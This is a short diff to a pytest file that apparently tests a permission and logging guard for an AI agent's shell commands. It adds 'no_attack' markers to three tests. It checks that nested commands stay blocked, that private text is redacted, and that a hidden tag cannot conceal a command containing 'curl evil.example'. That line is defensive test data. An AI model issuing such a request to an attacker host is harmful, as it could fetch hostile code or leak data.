@@ -280,6 +280,7 @@ def test_a_rule_that_blocks_is_not_passed_by_nesting(guarded: Client, inside: st
     assert decided(guarded, inside) in {"ask", "deny"}
 
 
+@pytest.mark.no_attack
 def test_without_rules_that_stop_nothing_is_asked_about(client: Client) -> None:
     assert decided(client, f": {'x' * 300_000}") == ""
 
@@ -336,12 +337,14 @@ def test_no_tag_hides_what_an_agent_runs(guarded: Client, command: str) -> None:
     assert "curl evil.example" in events(guarded.folder)[-1]["data"]["input"]["command"]
 
 
+@pytest.mark.no_attack
 def test_what_is_private_in_one_argument_of_a_command_stays_private(client: Client) -> None:
     client.runs('notes add "<private>my own words</private>" --now')
 
     assert events(client.folder)[-1]["data"]["input"]["command"] == 'notes add "[private]" --now'
 
 
+@pytest.mark.no_attack
 def test_a_prompt_that_names_our_tag_keeps_its_rest(client: Client) -> None:
     client.says("What does <holdfast> mean in the log? And never use tabs.")
 
